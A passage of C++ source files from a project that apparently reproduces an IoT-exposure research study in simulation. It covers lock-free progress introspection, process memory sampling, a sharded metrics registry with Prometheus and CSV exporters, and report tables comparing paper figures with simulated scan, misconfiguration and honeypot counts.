    unpack_header(slot.words[0].load(std::memory_order_acquire), event);
    event.sim_time = slot.words[1].load(std::memory_order_acquire);
    event.a = slot.words[2].load(std::memory_order_acquire);
    event.b = slot.words[3].load(std::memory_order_acquire);
    const std::uint64_t after = slot.marker.load(std::memory_order_relaxed);
    if (after != want) {
      // Overwritten mid-copy; the copy may be torn — discard it.
      ++cursor.lost;
      ++cursor.next;
      continue;
    }
    event.seq = cursor.next;
    out[produced] = event;
    ++produced;
    ++cursor.next;
  }
  return produced;
}

// --------------------------------------------------------------------- hub

IntrospectionHub::IntrospectionHub(std::size_t ring_capacity)
    : ring_(ring_capacity) {}

void IntrospectionHub::set_board(std::uint8_t phase, std::uint64_t sim_now,
                                 std::uint64_t sim_day) {
  const std::uint64_t v = board_version_.load(std::memory_order_relaxed);
  board_version_.store(v + 1, std::memory_order_relaxed);  // odd: writing
  board_phase_.store(phase, std::memory_order_release);
  board_sim_now_.store(sim_now, std::memory_order_release);
  board_sim_day_.store(sim_day, std::memory_order_release);
  board_version_.store(v + 2, std::memory_order_release);  // even: done
}

void IntrospectionHub::set_phase_name(std::uint8_t phase,
                                      std::string_view name) {
  const std::lock_guard<std::mutex> lock(mutex_);
  phase_names_[phase] = std::string(name);
}

std::size_t IntrospectionHub::add_sweep(std::string_view name,
                                        std::uint64_t total) {
  const std::uint64_t count = sweep_count_.load(std::memory_order_relaxed);
  if (count >= kMaxSweepSlots) return kMaxSweepSlots;
  SweepSlot& slot = sweeps_[count];
  slot.name = std::string(name);
  slot.total.store(total, std::memory_order_relaxed);
  slot.done.store(0, std::memory_order_relaxed);
  // The release publish makes name/total visible to any reader that
  // acquires the new count.
  sweep_count_.store(count + 1, std::memory_order_release);
  return static_cast<std::size_t>(count);
}

void IntrospectionHub::set_text(TextSlot slot, std::string text) {
  const std::lock_guard<std::mutex> lock(mutex_);
  (slot == TextSlot::kPhaseMetrics ? phase_metrics_text_ : degradation_text_) =
      std::move(text);
}

std::string IntrospectionHub::text(TextSlot slot) const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return slot == TextSlot::kPhaseMetrics ? phase_metrics_text_
                                         : degradation_text_;
}

void IntrospectionHub::publish(ProgressKind kind, std::uint8_t phase,
                               std::uint16_t shard, std::uint64_t sim_time,
                               std::uint64_t a, std::uint64_t b) {
  kind_counts_[static_cast<std::size_t>(kind)].fetch_add(
      1, std::memory_order_relaxed);
  ProgressEvent event;
  event.kind = kind;
  event.phase = phase;
  event.shard = shard;
  event.sim_time = sim_time;
  event.a = a;
  event.b = b;
  ring_.publish(event);
}

LiveSnapshot IntrospectionHub::snapshot(bool include_metrics) const {
  LiveSnapshot snap;

  // Seqlock read: retry until a consistent even-version window.
  for (;;) {
    const std::uint64_t v1 = board_version_.load(std::memory_order_acquire);
    if ((v1 & 1) != 0) continue;
    snap.phase = static_cast<std::uint8_t>(
        board_phase_.load(std::memory_order_acquire));
    snap.sim_now = board_sim_now_.load(std::memory_order_acquire);
    snap.sim_day = board_sim_day_.load(std::memory_order_acquire);
    const std::uint64_t v2 = board_version_.load(std::memory_order_relaxed);
    if (v1 == v2) {
      snap.epoch = v1 / 2;
      break;
    }
  }

  for (std::size_t k = 0; k < kProgressKindCount; ++k) {
    snap.kind_counts[k] = kind_counts_[k].load(std::memory_order_acquire);
  }
  snap.events_published = ring_.published();

  const std::uint64_t count = sweep_count_.load(std::memory_order_acquire);
  snap.sweeps.reserve(count);
  for (std::uint64_t i = 0; i < count; ++i) {
    const SweepSlot& slot = sweeps_[i];
    SweepProgress sweep;
    sweep.name = slot.name;
    sweep.total = slot.total.load(std::memory_order_acquire);
    sweep.done = slot.done.load(std::memory_order_acquire);
    // A worker's live counter can momentarily run ahead of what the
    // coordinating thread registered; clamp so done/total stays sane.
    sweep.done = std::min(sweep.done, sweep.total);
    snap.sweep_done += sweep.done;
    snap.sweep_total += sweep.total;
    snap.sweeps.push_back(std::move(sweep));
  }

  {
    const std::lock_guard<std::mutex> lock(mutex_);
    snap.phase_name = phase_names_[snap.phase];
  }

#ifndef OFH_NO_METRICS
  snap.trace_shards = TraceRegistry::global().live_stats();
  for (const auto& shard : snap.trace_shards) {
    snap.trace_recorded += shard.recorded;
    snap.trace_dropped += shard.dropped;
  }
  if (include_metrics) {
    snap.metrics = Registry::global().snapshot();
  }
#else
  (void)include_metrics;
#endif
  return snap;
}

// ----------------------------------------------------------------- sampler

ProgressSampler::ProgressSampler(const IntrospectionHub& hub,
                                 std::uint64_t min_interval_ms)
    : hub_(&hub),
      min_interval_ms_(min_interval_ms),
      rss_gauge_(gauge("process.rss_bytes", Domain::kWall)),
      hwm_gauge_(gauge("process.vm_hwm_bytes", Domain::kWall)) {}

SamplerStats ProgressSampler::tick(bool force) {
  const auto now = std::chrono::steady_clock::now();
  const std::lock_guard<std::mutex> lock(mutex_);
  if (!have_anchor_) {
    have_anchor_ = true;
    start_ = now;
    last_tick_ = now - std::chrono::milliseconds(min_interval_ms_);
  }
  const auto since_tick =
      std::chrono::duration_cast<std::chrono::milliseconds>(now - last_tick_)
          .count();
  if (!force && static_cast<std::uint64_t>(since_tick) < min_interval_ms_) {
    return stats_;
  }
  const double dt =
      std::chrono::duration<double>(now - last_tick_).count();
  last_tick_ = now;

  const ProcMemory memory = read_proc_memory();
  // Gauges only expose add(); publish the absolute reading as a delta
  // against what we last pushed.
  rss_gauge_.add(static_cast<std::int64_t>(memory.rss_bytes) -
                 rss_published_);
  rss_published_ = static_cast<std::int64_t>(memory.rss_bytes);
  hwm_gauge_.add(static_cast<std::int64_t>(memory.vm_hwm_bytes) -
                 hwm_published_);
  hwm_published_ = static_cast<std::int64_t>(memory.vm_hwm_bytes);

  const LiveSnapshot snap = hub_->snapshot(true);
  std::uint64_t packets = 0;
  for (const auto& row : snap.metrics) {
    if (row.name == "fabric.packets_sent") {
      packets = static_cast<std::uint64_t>(row.value);
      break;
    }
  }

  stats_.ticks += 1;
  stats_.rss_bytes = memory.rss_bytes;
  stats_.vm_hwm_bytes = memory.vm_hwm_bytes;
  stats_.wall_elapsed_seconds =
      std::chrono::duration<double>(now - start_).count();
  if (dt > 0.0) {
    const std::uint64_t hosts = snap.sweep_done;
    stats_.hosts_per_sec =
        hosts >= last_hosts_
            ? static_cast<double>(hosts - last_hosts_) / dt
            : 0.0;
    stats_.packets_per_sec =
        packets >= last_packets_
            ? static_cast<double>(packets - last_packets_) / dt
            : 0.0;
    last_hosts_ = hosts;
    last_packets_ = packets;
  }
  // Sweep-phase ETA: remaining targets at the current resolution rate.
  if (snap.sweep_total > 0 && snap.sweep_done < snap.sweep_total &&
      stats_.hosts_per_sec > 0.0) {
    stats_.eta_seconds =
        static_cast<double>(snap.sweep_total - snap.sweep_done) /
        stats_.hosts_per_sec;
  } else {
    stats_.eta_seconds = -1.0;
  }
  return stats_;
}

SamplerStats ProgressSampler::last() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return stats_;
}

}  // namespace ofh::obs
