// Process memory accounting from /proc/self/status — the shared reader
// behind bench/perf_scale's peak-RSS column and the live introspection
// sampler's process.rss_bytes / process.vm_hwm_bytes gauges.
//
// Domain note: everything here is wall-domain by nature (resident-set sizes
// depend on the allocator, the kernel and the machine). Callers must only
// feed these values into Domain::kWall metrics or profile/live channels,
// never into a deterministic export.
#pragma once

#include <cstdint>

namespace ofh::obs {

struct ProcMemory {
  std::uint64_t rss_bytes = 0;     // VmRSS: current resident set
  std::uint64_t vm_hwm_bytes = 0;  // VmHWM: peak resident set (high-water)
};

// Parses VmRSS/VmHWM out of /proc/self/status. Returns zeros on platforms
// without procfs (the fields are best-effort telemetry, never load-bearing).
ProcMemory read_proc_memory();

}  // namespace ofh::obs
