#include "obs/metrics.h"

#include <algorithm>
#include <cmath>
#include <cstdio>

namespace ofh::obs {

namespace {

std::size_t cells_for(Kind kind) {
  return kind == Kind::kHistogram ? 2 + kHistogramBuckets : 1;
}

// Prometheus metric names allow [a-zA-Z0-9_:]; we prefix with ofh_ and map
// every other character of the base name to '_'. A trailing {label="..."}
// set is passed through verbatim.
std::string prometheus_name(std::string_view name) {
  std::string out = "ofh_";
  const auto brace = name.find('{');
  const auto base = name.substr(0, brace);
  for (const char c : base) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
                    (c >= '0' && c <= '9') || c == '_';
    out.push_back(ok ? c : '_');
  }
  if (brace != std::string_view::npos) out += std::string(name.substr(brace));
  return out;
}

std::string_view prometheus_kind(Kind kind) {
  switch (kind) {
    case Kind::kCounter: return "counter";
    case Kind::kGauge: return "gauge";
    case Kind::kHistogram: return "histogram";
  }
  return "untyped";
}

// Upper bound of log2 bucket i (inclusive): 2^(i-1)..2^i - 1 live in
// bucket i, bucket 0 holds the value 0.
std::uint64_t bucket_upper(std::size_t bucket) {
  if (bucket == 0) return 0;
  if (bucket >= 64) return ~std::uint64_t{0};
  return (std::uint64_t{1} << bucket) - 1;
}

// RFC-4180: a field containing a comma, quote, CR or LF is wrapped in
// double quotes with embedded quotes doubled; anything else passes through.
std::string csv_field(std::string_view field) {
  if (field.find_first_of(",\"\r\n") == std::string_view::npos) {
    return std::string(field);
  }
  std::string out = "\"";
  for (const char c : field) {
    if (c == '"') {
      out += "\"\"";
    } else {
      out.push_back(c);
    }
  }
  out += '"';
  return out;
}

}  // namespace

std::string labeled(std::string_view base, std::string_view key,
                    std::string_view value) {
  std::string out(base);
  out += '{';
  out += key;
  out += "=\"";
  for (const char c : value) {
    switch (c) {
      case '\\': out += "\\\\"; break;
      case '"': out += "\\\""; break;
      case '\n': out += "\\n"; break;
      default: out.push_back(c); break;
    }
  }
  out += "\"}";
  return out;
}

std::uint64_t histogram_quantile(const MetricRow& row, double q) {
  if (row.count == 0) return 0;
  const double clamped = std::min(std::max(q, 0.0), 1.0);
  const auto rank = std::max<std::uint64_t>(
      1, static_cast<std::uint64_t>(
             std::ceil(clamped * static_cast<double>(row.count))));
  std::uint64_t cumulative = 0;
  for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
    cumulative += row.buckets[b];
    if (cumulative >= rank) return bucket_upper(b);
  }
  return bucket_upper(kHistogramBuckets - 1);
}

Registry& Registry::global() {
  static Registry* instance = new Registry();  // leaked: see header
  return *instance;
}

// Thread-shard lifetime: constructed on a thread's first metric write,
// registered with the registry; on thread exit the destructor folds the
// final values into retired_ so no sample is ever lost.
struct ShardOwner {
  Registry::Shard shard;
  ShardOwner() { Registry::global().attach_shard(&shard); }
  ~ShardOwner() { Registry::global().detach_shard(&shard); }
};

Registry::Shard& Registry::local_shard() {
  thread_local ShardOwner owner;
  return owner.shard;
}

void Registry::attach_shard(Shard* shard) {
  const std::lock_guard<std::mutex> lock(mutex_);
  shards_.push_back(shard);
}

void Registry::detach_shard(Shard* shard) {
  const std::lock_guard<std::mutex> lock(mutex_);
  for (std::size_t i = 0; i < kMaxCells; ++i) {
    retired_[i] += shard->cells[i].load(std::memory_order_relaxed);
  }
  shards_.erase(std::remove(shards_.begin(), shards_.end(), shard),
                shards_.end());
}

std::uint32_t Registry::define(std::string_view name, Kind kind,
                               Domain domain) {
  const std::lock_guard<std::mutex> lock(mutex_);
  for (const auto& def : defs_) {
    if (def.name == name) {
      // Same shape: share the series. A conflicting redefinition gets the
      // scrap cell rather than corrupting a neighbour's range.
      return def.kind == kind && def.domain == domain ? def.cell : 0;
    }
  }
  const auto need = static_cast<std::uint32_t>(cells_for(kind));
  if (next_cell_ + need > kMaxCells) return 0;  // budget exhausted: scrap
  const std::uint32_t cell = next_cell_;
  next_cell_ += need;
  defs_.push_back({std::string(name), kind, domain, cell, need});
  return cell;
}

void Registry::record_span(std::string_view name, std::uint64_t sim_start,
                           std::uint64_t sim_end, std::uint64_t wall_usec) {
  const std::lock_guard<std::mutex> lock(mutex_);
  spans_.push_back({std::string(name), sim_start, sim_end, wall_usec});
}

std::vector<MetricRow> Registry::snapshot() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  // Merge: retired totals + every live shard, cell by cell. Sums are
  // order-independent, so the result does not depend on which thread ran
  // which task.
  std::array<std::int64_t, kMaxCells> merged = retired_;
  for (const Shard* shard : shards_) {
    for (std::size_t i = 0; i < kMaxCells; ++i) {
      merged[i] += shard->cells[i].load(std::memory_order_relaxed);
    }
  }
  std::vector<MetricRow> rows;
  rows.reserve(defs_.size());
  for (const auto& def : defs_) {
    MetricRow row;
    row.name = def.name;
    row.kind = def.kind;
    row.domain = def.domain;
    if (def.kind == Kind::kHistogram) {
      row.count = static_cast<std::uint64_t>(merged[def.cell]);
      row.sum = static_cast<std::uint64_t>(merged[def.cell + 1]);
      for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
        row.buckets[b] = static_cast<std::uint64_t>(merged[def.cell + 2 + b]);
      }
    } else {
      row.value = merged[def.cell];
    }
    rows.push_back(std::move(row));
  }
  std::sort(rows.begin(), rows.end(),
            [](const MetricRow& a, const MetricRow& b) {
              return a.name < b.name;
            });
  return rows;
}

std::vector<SpanRow> Registry::spans() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return spans_;
}

std::string Registry::export_prometheus(bool include_wall) const {
  std::string out;
  std::string last_base;  // one # TYPE line per base name
  for (const auto& row : snapshot()) {
    if (row.domain == Domain::kWall && !include_wall) continue;
    const std::string name = prometheus_name(row.name);
    const std::string base = name.substr(0, name.find('{'));
    if (base != last_base) {
      out += "# TYPE " + base + " " +
             std::string(prometheus_kind(row.kind)) + "\n";
      last_base = base;
    }
    if (row.kind == Kind::kHistogram) {
      std::uint64_t cumulative = 0;
      for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
        if (row.buckets[b] == 0) continue;
        cumulative += row.buckets[b];
        out += base + "_bucket{le=\"" + std::to_string(bucket_upper(b)) +
               "\"} " + std::to_string(cumulative) + "\n";
      }
      out += base + "_bucket{le=\"+Inf\"} " + std::to_string(row.count) + "\n";
      out += base + "_sum " + std::to_string(row.sum) + "\n";
      out += base + "_count " + std::to_string(row.count) + "\n";
      // Summary-style quantile series derived from the log2 buckets (the
      // same math export_profile uses): exact bucket-upper-bound values,
      // so the lines are deterministic wherever the histogram is.
      for (const double q : {0.5, 0.95, 0.99}) {
        char label[16];
        std::snprintf(label, sizeof label, "%g", q);
        out += base + "{quantile=\"" + label + "\"} " +
               std::to_string(histogram_quantile(row, q)) + "\n";
      }
    } else {
      out += name + " " + std::to_string(row.value) + "\n";
    }
  }
  // Spans: the deterministic (sim-time) half of the trace channel. Wall
  // durations are export_profile()'s business.
  for (const auto& span : spans()) {
    out += "# span " + span.name + " sim_start=" +
           std::to_string(span.sim_start) + " sim_end=" +
           std::to_string(span.sim_end) + "\n";
  }
  return out;
}

std::string Registry::export_csv(bool include_wall) const {
  std::string out = "metric,kind,field,value\n";
  for (const auto& row : snapshot()) {
    if (row.domain == Domain::kWall && !include_wall) continue;
    const std::string name = csv_field(row.name);
    if (row.kind == Kind::kHistogram) {
      out += name + ",histogram,count," + std::to_string(row.count) + "\n";
      out += name + ",histogram,sum," + std::to_string(row.sum) + "\n";
      for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
        if (row.buckets[b] == 0) continue;
        out += name + ",histogram,bucket_le_" +
               std::to_string(bucket_upper(b)) + "," +
               std::to_string(row.buckets[b]) + "\n";
      }
    } else {
      out += name + "," +
             std::string(row.kind == Kind::kCounter ? "counter" : "gauge") +
             ",value," + std::to_string(row.value) + "\n";
    }
  }
  for (const auto& span : spans()) {
    out += "span," + csv_field(span.name) + ",sim_start," +
           std::to_string(span.sim_start) + "\n";
    out += "span," + csv_field(span.name) + ",sim_end," +
           std::to_string(span.sim_end) + "\n";
  }
  return out;
}

std::string Registry::export_profile() const {
  std::string out = "# wall-clock profile (nondeterministic)\n";
  for (const auto& row : snapshot()) {
    if (row.domain != Domain::kWall) continue;
    if (row.kind == Kind::kHistogram) {
      out += row.name + " count=" + std::to_string(row.count) +
             " sum=" + std::to_string(row.sum) +
             " p50=" + std::to_string(histogram_quantile(row, 0.50)) +
             " p95=" + std::to_string(histogram_quantile(row, 0.95)) +
             " p99=" + std::to_string(histogram_quantile(row, 0.99)) + "\n";
    } else {
      out += row.name + " " + std::to_string(row.value) + "\n";
    }
  }
  for (const auto& span : spans()) {
    out += "span " + span.name + " wall_usec=" +
           std::to_string(span.wall_usec) + "\n";
  }
  return out;
}

void Registry::absorb(const std::vector<MetricRow>& rows) {
  for (const MetricRow& row : rows) {
    const std::uint32_t cell = define(row.name, row.kind, row.domain);
    if (cell == 0) continue;  // scrap: shape conflict or budget exhausted
    if (row.kind == Kind::kHistogram) {
      add(cell, static_cast<std::int64_t>(row.count));
      add(cell + 1, static_cast<std::int64_t>(row.sum));
      for (std::size_t b = 0; b < kHistogramBuckets; ++b) {
        if (row.buckets[b] == 0) continue;
        add(cell + 2 + static_cast<std::uint32_t>(b),
            static_cast<std::int64_t>(row.buckets[b]));
      }
    } else {
      add(cell, row.value);
    }
  }
}

void Registry::reset() {
  const std::lock_guard<std::mutex> lock(mutex_);
  retired_.fill(0);
  for (Shard* shard : shards_) {
    for (auto& cell : shard->cells) {
      cell.store(0, std::memory_order_relaxed);
    }
  }
  spans_.clear();
}

}  // namespace ofh::obs
