// Deterministic observability: a process-wide registry of counters, gauges
// and log-scale histograms, plus sim-time-stamped trace spans.
//
// Determinism contract: metrics live in two domains.
//   * Domain::kSim values are pure functions of the simulation inputs. The
//     parallel scan layer runs identical per-shard work no matter how many
//     worker threads execute it (sim/parallel.h), and every cell merge is an
//     order-independent sum, so the deterministic exports are byte-identical
//     for scan_threads = 1/2/8/hardware — the same property PR 2 proved for
//     the scan DBs, now extended to telemetry (tests/parallel_test.cpp).
//   * Domain::kWall values (thread-pool queue depths, wall-clock span
//     durations) depend on scheduling; they are excluded from the
//     deterministic exports and surface only via export_profile().
//
// Threading: the hot path writes to a lock-free thread-local shard (one
// relaxed atomic add, no shared cache line). Shards merge into the
// registry's aggregate when their thread exits; live shards are summed by
// snapshot(), which the coordinating thread calls only after a
// synchronization point (ThreadPool::wait_idle establishes the
// happens-before edge that makes every completed task's increments visible).
//
// Compile-time escape hatch: building with -DOFH_NO_METRICS (CMake option
// of the same name) turns every handle operation into an empty inline
// function and registers nothing — instrumentation is genuinely zero-cost.
#pragma once

#include <array>
#include <atomic>
#include <bit>
#include <cstddef>
#include <cstdint>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace ofh::obs {

enum class Kind : std::uint8_t { kCounter, kGauge, kHistogram };
enum class Domain : std::uint8_t { kSim, kWall };

// Histogram buckets are log2-scale: bucket i counts values whose bit width
// is i (bucket 0 holds the value 0), so the upper bound of bucket i is
// 2^i - 1. 64 buckets cover the full uint64 range.
inline constexpr std::size_t kHistogramBuckets = 65;

// Scalar cells per thread shard. Counters and gauges take one cell;
// histograms take 2 + kHistogramBuckets (count, sum, buckets). Exhaustion
// routes writes to the reserved scrap cell 0, which exporters skip.
inline constexpr std::size_t kMaxCells = 8192;

// One merged metric in a snapshot.
struct MetricRow {
  std::string name;
  Kind kind = Kind::kCounter;
  Domain domain = Domain::kSim;
  std::int64_t value = 0;                              // counter / gauge
  std::uint64_t count = 0;                             // histogram
  std::uint64_t sum = 0;                               // histogram
  std::array<std::uint64_t, kHistogramBuckets> buckets{};  // histogram
};

// One recorded trace span. Sim timestamps are deterministic; wall_usec is
// profile-only and never reaches the deterministic exports.
struct SpanRow {
  std::string name;
  std::uint64_t sim_start = 0;
  std::uint64_t sim_end = 0;
  std::uint64_t wall_usec = 0;
};

class Registry {
 public:
  struct Shard {
    std::array<std::atomic<std::int64_t>, kMaxCells> cells{};
  };

  // The process-wide registry (intentionally leaked: thread-local shards
  // may retire during program teardown, after static destructors ran).
  static Registry& global();

  // Interns (name, kind, domain) and returns the metric's first cell index.
  // Idempotent per name; thread-safe. Returns 0 (the scrap cell) when the
  // cell budget is exhausted or a name is re-defined with a different shape.
  std::uint32_t define(std::string_view name, Kind kind, Domain domain);

  // Hot-path writes: one relaxed atomic add on this thread's shard.
  void add(std::uint32_t cell, std::int64_t delta) {
    local_shard().cells[cell].fetch_add(delta, std::memory_order_relaxed);
  }
  void observe(std::uint32_t first_cell, std::uint64_t value) {
    if (first_cell == 0) return;  // scrap: histograms need their cell range
    auto& cells = local_shard().cells;
    cells[first_cell].fetch_add(1, std::memory_order_relaxed);
    cells[first_cell + 1].fetch_add(static_cast<std::int64_t>(value),
                                    std::memory_order_relaxed);
    cells[first_cell + 2 + bucket_of(value)].fetch_add(
        1, std::memory_order_relaxed);
  }

  static std::uint32_t bucket_of(std::uint64_t value) {
    return static_cast<std::uint32_t>(std::bit_width(value));
  }

  // Records a completed trace span (coordinating thread only).
  void record_span(std::string_view name, std::uint64_t sim_start,
                   std::uint64_t sim_end, std::uint64_t wall_usec);

  // Merged view: live shards + retired totals, sorted by metric name. Call
  // from the coordinating thread after a synchronization point.
  std::vector<MetricRow> snapshot() const;
  std::vector<SpanRow> spans() const;

  // Deterministic text exporters (Domain::kSim only unless include_wall).
  // Spans appear with their sim timestamps; wall durations never do.
  std::string export_prometheus(bool include_wall = false) const;
  std::string export_csv(bool include_wall = false) const;
  // The wall-clock profile channel: wall-domain metrics + span wall times.
  std::string export_profile() const;

  // Folds a remote registry's snapshot() rows into this one: defines each
  // row's metric (idempotent) and adds its values to the calling thread's
  // shard. Every cell merge is an order-independent sum — exactly how
  // in-process thread shards fold — so absorbing a worker process's rows
  // yields byte-identical deterministic exports to having run the work
  // in-process (dist/coordinator.h relies on this). Rows whose name is
  // already defined with a different shape land in the scrap cell, same as
  // any conflicting define(). Coordinating thread only.
  void absorb(const std::vector<MetricRow>& rows);

  // Zeroes every cell (live and retired) and clears spans. Metric
  // definitions persist, so existing handles stay valid. Call only while
  // no other thread is writing metrics (e.g. between Study runs).
  void reset();

 private:
  friend struct ShardOwner;
  Registry() = default;

  Shard& local_shard();
  void attach_shard(Shard* shard);
  void detach_shard(Shard* shard);  // folds the shard into retired_

  struct MetricDef {
    std::string name;
    Kind kind;
    Domain domain;
    std::uint32_t cell;
    std::uint32_t cells;
  };

  mutable std::mutex mutex_;
  std::vector<MetricDef> defs_;
  std::vector<Shard*> shards_;
  std::array<std::int64_t, kMaxCells> retired_{};
  std::uint32_t next_cell_ = 1;  // cell 0 is the scrap cell
  std::vector<SpanRow> spans_;
};

// ----------------------------------------------------------------- handles
//
// Handles are trivially-copyable cell references. Obtain them once (static
// struct per module, or a member initialized at construction) and call the
// write methods on the hot path.

class Counter {
 public:
  Counter() = default;
  void inc(std::uint64_t n = 1) const {
#ifndef OFH_NO_METRICS
    Registry::global().add(cell_, static_cast<std::int64_t>(n));
#else
    (void)n;
#endif
  }

 private:
  friend Counter counter(std::string_view, Domain);
  explicit Counter(std::uint32_t cell) : cell_(cell) {}
  std::uint32_t cell_ = 0;
};

class Gauge {
 public:
  Gauge() = default;
  void add(std::int64_t delta) const {
#ifndef OFH_NO_METRICS
    Registry::global().add(cell_, delta);
#else
    (void)delta;
#endif
  }
  void sub(std::int64_t delta) const { add(-delta); }

 private:
  friend Gauge gauge(std::string_view, Domain);
  explicit Gauge(std::uint32_t cell) : cell_(cell) {}
  std::uint32_t cell_ = 0;
};

class Histogram {
 public:
  Histogram() = default;
  void observe(std::uint64_t value) const {
#ifndef OFH_NO_METRICS
    Registry::global().observe(cell_, value);
#else
    (void)value;
#endif
  }

 private:
  friend Histogram histogram(std::string_view, Domain);
  explicit Histogram(std::uint32_t cell) : cell_(cell) {}
  std::uint32_t cell_ = 0;
};

inline Counter counter(std::string_view name, Domain domain = Domain::kSim) {
#ifndef OFH_NO_METRICS
  return Counter(Registry::global().define(name, Kind::kCounter, domain));
#else
  (void)name;
  (void)domain;
  return Counter();
#endif
}

inline Gauge gauge(std::string_view name, Domain domain = Domain::kSim) {
#ifndef OFH_NO_METRICS
  return Gauge(Registry::global().define(name, Kind::kGauge, domain));
#else
  (void)name;
  (void)domain;
  return Gauge();
#endif
}

inline Histogram histogram(std::string_view name,
                           Domain domain = Domain::kSim) {
#ifndef OFH_NO_METRICS
  return Histogram(Registry::global().define(name, Kind::kHistogram, domain));
#else
  (void)name;
  (void)domain;
  return Histogram();
#endif
}

// "scanner.probes" + ("protocol", "Telnet") -> scanner.probes{protocol="Telnet"}
// The exporter passes the {...} suffix through as a Prometheus label set, so
// the value is escaped here per the Prometheus exposition rules: backslash,
// double quote and newline become \\, \" and \n.
std::string labeled(std::string_view base, std::string_view key,
                    std::string_view value);

// Exact quantile (q in [0, 1]) of a merged histogram row, computed from the
// log2 bucket counts: the upper bound (2^b - 1) of the bucket holding the
// ceil(q * count)-th smallest sample. Returns 0 for an empty histogram.
std::uint64_t histogram_quantile(const MetricRow& row, double q);

// Convenience for phase instrumentation: records the span on destruction.
// Wall time is measured with a steady clock; sim times are caller-supplied.
inline void record_span(std::string_view name, std::uint64_t sim_start,
                        std::uint64_t sim_end, std::uint64_t wall_usec) {
#ifndef OFH_NO_METRICS
  Registry::global().record_span(name, sim_start, sim_end, wall_usec);
#else
  (void)name;
  (void)sim_start;
  (void)sim_end;
  (void)wall_usec;
#endif
}

}  // namespace ofh::obs
