#include "core/reports.h"

#include <cmath>

#include "devices/paper_stats.h"
#include "util/strings.h"
#include "util/table.h"

namespace ofh::core {

namespace {

using devices::paper::table10;
using devices::paper::table4;
using devices::paper::table5;
using devices::paper::table6;
using devices::paper::table7;
using devices::paper::table7_sources;
using devices::paper::table8;
using util::percent;
using util::with_commas;

std::string header(const std::string& title) {
  return "\n=== " + title + " ===\n";
}

}  // namespace

std::string report_table4_exposed(Study& study) {
  util::Table table({"Protocol", "Paper(ZMap)", "Expected@scale",
                     "Measured(ZMap)", "Paper(Sonar)", "Measured(Sonar)",
                     "Paper(Shodan)", "Measured(Shodan)"});
  std::uint64_t measured_total = 0;
  for (const auto& row : table4()) {
    const auto name = std::string(proto::protocol_name(row.protocol));
    const auto measured = study.scan_db().unique_hosts(row.protocol);
    measured_total += measured;
    const auto sonar_measured =
        study.sonar() && study.sonar()->has_protocol(row.protocol)
            ? with_commas(study.sonar()->unique_hosts(row.protocol))
            : "NA";
    const auto shodan_measured =
        study.shodan() ? with_commas(study.shodan()->unique_hosts(row.protocol))
                       : "NA";
    table.add_row({name, with_commas(row.zmap),
                   with_commas(study.scaled_population(row.zmap)),
                   with_commas(measured),
                   row.sonar == 0 ? "NA" : with_commas(row.sonar),
                   sonar_measured, with_commas(row.shodan), shodan_measured});
  }
  table.add_row({"Total", with_commas(devices::paper::kTable4ZmapTotal),
                 with_commas(study.scaled_population(
                     devices::paper::kTable4ZmapTotal)),
                 with_commas(measured_total), "", "", "", ""});
  return header("Table 4: exposed systems by protocol and source") +
         table.render();
}

std::string report_fig2_device_types(Study& study) {
  const auto histogram = classify::type_histogram(study.scan_db());
  util::Table table({"Protocol", "Device type", "Measured share"});
  for (const auto& [protocol, counter] : histogram) {
    const double total = static_cast<double>(counter.total());
    for (const auto& [type, count] : counter.ranked()) {
      table.add_row({std::string(proto::protocol_name(protocol)), type,
                     percent(count / total)});
    }
  }
  return header("Figure 2: top IoT device types by protocol") + table.render();
}

std::string report_table5_misconfigured(Study& study) {
  // Measured: count findings per (protocol, vulnerability label).
  util::Counter measured;
  for (const auto& finding : study.findings()) {
    measured.add(std::string(proto::protocol_name(finding.protocol)) + "|" +
                 std::string(devices::misconfig_name(finding.misconfig)));
  }
  util::Table table(
      {"Protocol", "Vulnerability", "Paper", "Expected@scale", "Measured"});
  std::uint64_t measured_total = 0;
  std::uint64_t expected_total = 0;
  for (const auto& row : table5()) {
    const auto key = std::string(proto::protocol_name(row.protocol)) + "|" +
                     std::string(row.vulnerability);
    const auto count = measured.count(key);
    measured_total += count;
    expected_total += study.scaled_population(row.devices);
    table.add_row({std::string(proto::protocol_name(row.protocol)),
                   std::string(row.vulnerability), with_commas(row.devices),
                   with_commas(study.scaled_population(row.devices)),
                   with_commas(count)});
  }
  table.add_row({"Total", "", with_commas(devices::paper::kTable5Total),
                 with_commas(expected_total), with_commas(measured_total)});
  return header("Table 5: misconfigured devices per protocol") +
         table.render();
}

std::string report_table6_honeypots(Study& study) {
  util::Table table({"Honeypot", "Paper", "Expected@scale", "Measured"});
  std::uint64_t measured_total = 0;
  std::uint64_t expected_total = 0;
  for (const auto& row : table6()) {
    const auto measured =
        study.fingerprints().detections.count(std::string(row.honeypot));
    measured_total += measured;
    expected_total += study.scaled_population(row.instances);
    table.add_row({std::string(row.honeypot), with_commas(row.instances),
                   with_commas(study.scaled_population(row.instances)),
                   with_commas(measured)});
  }
  table.add_row({"Total", with_commas(devices::paper::kTable6Total),
                 with_commas(expected_total), with_commas(measured_total)});
  return header("Table 6: honeypots detected via Telnet banner signatures") +
         table.render();
}

std::string report_table10_countries(Study& study) {
  util::Counter measured;
  for (const auto& finding : study.findings()) {
    measured.add(study.geo().country(finding.host));
  }
  const double total = static_cast<double>(
      std::max<std::uint64_t>(1, measured.total()));
  util::Table table(
      {"Country", "Paper", "Paper share", "Measured", "Measured share"});
  for (const auto& row : table10()) {
    const auto count = measured.count(std::string(row.country));
    table.add_row({std::string(row.country), with_commas(row.devices),
                   percent(static_cast<double>(row.devices) /
                           devices::paper::kTable5Total),
                   with_commas(count), percent(count / total)});
  }
  return header("Table 10: misconfigured devices by country") + table.render();
}

std::string report_table7_attacks(Study& study) {
  const auto by_honeypot = study.attack_log().count_by_honeypot();
  // Per honeypot+protocol tally.
  util::Counter by_pair;
  for (const auto& event : study.attack_log().events()) {
    by_pair.add(event.honeypot + "|" +
                std::string(proto::protocol_name(event.protocol)));
  }
  util::Table table({"Honeypot", "Protocol", "Paper events", "Expected@scale",
                     "Measured"});
  for (const auto& row : table7()) {
